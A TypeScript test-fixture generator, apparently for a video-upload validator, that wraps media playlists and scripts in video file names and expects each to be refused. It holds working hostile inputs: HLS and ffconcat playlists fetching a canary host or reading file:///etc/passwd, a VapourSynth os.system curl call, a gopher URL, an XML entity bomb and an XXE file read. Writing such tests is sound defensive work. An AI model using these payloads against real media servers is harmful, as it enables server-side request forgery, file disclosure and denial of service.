import { type HostileFile, type Lures, refusedWith } from './hostile-file.ts'

const noVideo = refusedWith(422)
const EXTENSIONS = ['mp4', 'mov', 'avi', 'mkv', 'webm', 'flv', 'ts', 'wmv', 'ogv'] as const

/** Scripts and playlists that name other files, under the names of videos. */
export function makeDisguises(lures: Lures): HostileFile[] {
  const everywhere = Object.entries(scripts(lures)).flatMap(([kind, text]) =>
    EXTENSIONS.map((extension) => disguise(`${kind}.${extension}`, text)),
  )
  const further = Object.entries(furtherScripts(lures)).map(([kind, text]) =>
    disguise(`${kind}.mp4`, text),
  )
  const quick = new Set(['hls-http.mp4', 'subfile.mov', 'sdp.avi'])
  return [...everywhere, ...further].map((file) =>
    quick.has(file.name) ? { ...file, quick: true as const } : file,
  )
}

function disguise(name: string, text: string): HostileFile {
  return noVideo(name, Buffer.from(text))
}

const hls = (...lines: string[]) =>
  ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:2', ...lines, '#EXT-X-ENDLIST'].join('\n')

function scripts({ canary, neighbour }: Lures): Record<string, string> {
  const [host, port] = canary.replace('http://', '').split(':')
  return {
    'hls-http': hls('#EXTINF:1.0,', `${canary}/hls.ts`),
    'hls-file': hls('#EXTINF:1.0,', neighbour, '#EXTINF:1.0,', 'file:///etc/passwd'),
    ffconcat: `ffconcat version 1.0\nfile '${neighbour}'\nfile '${canary}/concat.mp4'\n`,
    sdp: `v=0\no=- 0 0 IN IP4 ${host}\ns=x\nc=IN IP4 ${host}\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    data: 'data:video/mp4;base64,AAAAIGZ0eXBpc29tAAACAGlzb21pc28yYXZjMW1wNDE=\n',
    subfile: `subfile,,start,0,end,1000,,:${neighbour}\n`,
    edl: `# mpv EDL v0\n${neighbour},0,10\n${canary}/edl.mp4,0,10\n`,
  }
}

function furtherScripts({ canary, neighbour }: Lures): Record<string, string> {
  return {
    'hls-key': hls(`#EXT-X-KEY:METHOD=AES-128,URI="${canary}/key"`, '#EXTINF:1.0,', neighbour),
    'hls-map': hls(`#EXT-X-MAP:URI="${canary}/map.mp4"`, '#EXTINF:1.0,', neighbour),
    'hls-concat': hls('#EXTINF:1.0,', `concat:${neighbour}|file:///etc/passwd`),
    'hls-gopher': hls('#EXTINF:1.0,', `${canary.replace('http', 'gopher')}/_x`),
    'hls-after-a-break': `\n\n${hls('#EXTINF:1.0,', `${canary}/break.ts`)}`,
    'ffconcat-options': `ffconcat version 1.0\nfile ${canary}/o.mp4\noption safe 0\noption protocol_whitelist file,http,tcp\n`,
    dash: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT5S"><Period><BaseURL>${canary}/</BaseURL><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    smil: `<smil><body><video src="${canary}/smil.mp4"/></body></smil>`,
    asx: `<asx version="3.0"><entry><ref href="${canary}/asx.mp4"/></entry></asx>`,
    pls: `[playlist]\nFile1=${canary}/pls.mp4\nNumberOfEntries=1\n`,
    m3u: `${canary}/m3u.mp4\n${neighbour}\n`,
    ram: `rtsp://${canary.replace('http://', '')}/x.rm\n`,
    avisynth: `AviSource("${neighbour}")\n`,
    vapoursynth: `import os\nos.system("curl ${canary}/vs")\n`,
    ffmetadata: `;FFMETADATA1\ntitle=${canary}\n`,
    imf: `<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>${canary}</Id></CompositionPlaylist>`,
    ism: `<SmoothStreamingMedia MajorVersion="2" MinorVersion="0" Duration="1"><StreamIndex Type="video" Url="${canary}/ism"/></SmoothStreamingMedia>`,
    webvtt: 'WEBVTT\n\n00:00.000 --> 99:00:00.000\nHi\n',
    'xml-bomb': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'x'.repeat(1000)}">${'bcdefgh'
      .split('')
      .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefgh'[at]};`.repeat(10)}">`)
      .join('')}]><x>&h;</x>`,
    'xml-external': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "${canary}/entity"><!ENTITY b SYSTEM "file:///etc/passwd">]><x>&a;&b;</x>`,
  }
}
